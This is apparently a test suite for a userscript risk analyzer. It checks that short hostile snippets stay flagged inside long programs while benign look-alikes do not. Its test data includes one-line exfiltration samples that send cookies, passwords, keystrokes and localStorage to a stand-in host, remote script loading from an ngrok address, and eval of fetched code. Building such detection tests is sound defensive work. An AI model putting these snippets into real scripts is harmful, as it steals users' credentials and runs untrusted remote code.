import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";
import { lengthened, padded } from "./testing/long-program.ts";

const SITE = ["match https://shop.example/*", "grant GM_xmlhttpRequest", "grant GM_getValue", "grant GM_setValue"];
const on = (body: string) => userscript(SITE, body);
const levelOf = (code: string) => analyzeScript({ code }).risk_level;

/**
 * What a library or a large script does as well: in a short script it is worth a look, because there is little else. The last of each
 * is an attack of the same look.
 */
const KINDS: readonly { readonly name: string; readonly usual: readonly string[]; readonly attack: string }[] = [
	{
		name: "functions that load what they are given",
		usual: [
			`function load(url) { const script = document.createElement("script"); script.src = url; document.head.append(script); } load(GM_getValue("module"));`,
			`const load = (url) => import(url); load(unfold(4) + GM_getValue("module"));`,
			`class Loader { get(url) { const script = document.createElement("script"); script.src = url + GM_getValue("name"); document.head.append(script); } } new Loader().get(unfold(1));`,
		],
		attack: `const script = document.createElement("script"); script.src = "https://abc.ngrok.io/x.js"; document.head.append(script);`,
	},
	{
		name: "templates and settings that become functions",
		usual: [
			`const render = (template) => new Function("data", "return " + template); render(unfold(4));`,
			`const parse = (text) => eval("(" + text + ")"); parse(unfold(4));`,
			`const compile = (text) => Function("with (this) { return " + text + " }"); compile(unfold(5));`,
		],
		attack: `GM_xmlhttpRequest({ url: "https://abc.ngrok.io/x", onload: (response) => eval(response.responseText) });`,
	},
	{
		name: "members by names that are not known",
		usual: [
			`const queue = window[unfold(1)]; queue(1);`,
			`const name = unfold(2); window[name]("x");`,
			`for (const name of Object.keys(unfold(3))) window[name]?.(1);`,
		],
		attack: `window["fet" + "ch"]("https://c.stranger.test/?" + document.cookie);`,
	},
	{
		name: "fields for the site's own interface, whose address is put together out of sight",
		usual: [
			`fetch(unfold(1), { method: "POST", body: new FormData(document.querySelector("form")) }).then((r) => r.json()).then(console.log);`,
			`const api = (path, body) => fetch(path, { method: "POST", body }).then((r) => r.text()); api(unfold(2), document.querySelector("#note").value).then(console.log);`,
			`const request = new XMLHttpRequest(); request.open("POST", unfold(3)); request.onload = () => console.log(request.response); request.send(document.querySelector("#title").value);`,
		],
		attack: `fetch("https://c.stranger.test/", { method: "POST", body: new FormData(document.querySelector("form")) });`,
	},
	{
		name: "pictures that are shown",
		usual: [
			`const icon = document.createElement("img"); icon.src = "https://icons.stranger.test/" + unfold(1) + ".png"; document.body.append(icon);`,
			`document.body.style.backgroundImage = "url(https://icons.stranger.test/" + unfold(2) + ".png)";`,
			`document.body.insertAdjacentHTML("beforeend", '<img src="https://icons.stranger.test/' + unfold(3) + '.png">');`,
		],
		attack: `new Image().src = "https://c.stranger.test/" + document.cookie;`,
	},
];

describe.each(KINDS)("a long program: $name", ({ usual, attack }) => {
	test.each(usual)("is no ground for a look: %s", (body) => {
		expect(levelOf(lengthened(on(body)))).toBe("green");
	});

	test("is High where it is an attack", () => {
		expect(levelOf(lengthened(on(attack)))).toBe("red");
	});
});

describe("the length of a program", () => {
	const body = `const name = prompt("name"); window[name]("x");`;

	test("counts what it does, and not comments", () => {
		expect(levelOf(lengthened(on(body)))).toBe("green");
		expect(levelOf(padded(on(body)))).toBe("amber");
	});

	test.each([
		["cookies", `fetch("https://c.stranger.test/?" + document.cookie)`],
		["a password", `fetch("https://c.stranger.test/?" + document.querySelector("[type=password]").value)`],
		["keys", `addEventListener("keydown", (event) => fetch("https://c.stranger.test/?" + event.key))`],
		[
			"all that the site keeps",
			`fetch("https://c.stranger.test/", { method: "POST", body: JSON.stringify(localStorage) })`,
		],
	])("hides no theft of %s", (_title, theft) => {
		expect(levelOf(lengthened(on(theft)))).toBe("red");
	});

	test("leaves a helper's only receiver worth a look", () => {
		const steps = Array.from({ length: 9 }, (_none, at) => `const s${at + 1} = s${at} + "";`).join(" ");
		const code = on(`const s0 = document.cookie; ${steps} fetch("https://c.stranger.test/?" + s9);`);
		expect(levelOf(lengthened(code))).toBe("amber");
	});
});

describe("pages that a long program opens", () => {
	const opens = `open("https://offers.stranger.test/")`;

	test("by a handler, which mostly is of a control of its own, are no ground for a look", () => {
		expect(levelOf(lengthened(on(`document.querySelector("#help").onclick = () => ${opens};`)))).toBe("green");
	});

	test.each([`document.onclick = () => ${opens};`, `addEventListener("mousedown", () => ${opens});`, `${opens};`])(
		"on any click, or by itself, are: %s",
		(body) => {
			expect(levelOf(lengthened(on(body)))).toBe("amber");
		},
	);
});

test("a long program that sends a secret to an address which it builds is told by both facts", () => {
	const body = `fetch(unfold(1), { method: "POST", body: document.cookie }).then((r) => r.json()).then(console.log);`;
	const { vulnerabilities } = analyzeScript({ code: lengthened(on(body)) });
	expect(vulnerabilities.find(({ type }) => type === "capability-pair")).toMatchObject({
		severity: "medium",
		description:
			"Reads document.cookie and sends requests to a place that cannot be told from the code. Whether the data goes to another site could not be checked: the script builds the address while it runs.",
	});
});

describe("a path over a long way in a long program", () => {
	const far = (from: string, to: string) => {
		const [body = "", ...fillers] = lengthened("").split("\n");
		return on([from, body, ...fillers, to].join("\n"));
	};

	test.each([
		["cookies", `let kept = document.cookie;`, `fetch("https://c.stranger.test/?" + kept);`],
		[
			"a password",
			`const read = () => document.querySelector("[type=password]").value;`,
			`fetch("https://c.stranger.test/?" + read());`,
		],
		[
			"keys",
			`let typed = ""; addEventListener("keydown", (event) => { typed += event.key; });`,
			`setInterval(() => fetch("https://c.stranger.test/?" + typed), 1000);`,
		],
	])("is worth a look, and its sentence says 'unless': %s", (_title, from, to) => {
		const { risk_level, vulnerabilities } = analyzeScript({ code: far(from, to) });
		expect(risk_level).toBe("amber");
		expect(vulnerabilities[0]?.description).toMatch(/, unless the values that the script computes rule it out\.$/);
		// The same in one place.
		expect(levelOf(lengthened(on(`${from} ${to}`)))).toBe("red");
	});

	test("is an attack where only a library makes the program long", () => {
		const address = "https://lib.stranger.test/long.js";
		const body = `let kept = document.cookie; /* ${"A comment. ".repeat(600)} */ fetch("https://c.stranger.test/?" + kept);`;
		const code = userscript([...SITE, `require ${address}`], body);
		const libraries = [{ address, text: lengthened("") }];
		expect(analyzeScript({ code, libraries }).risk_level).toBe("red");
	});
});
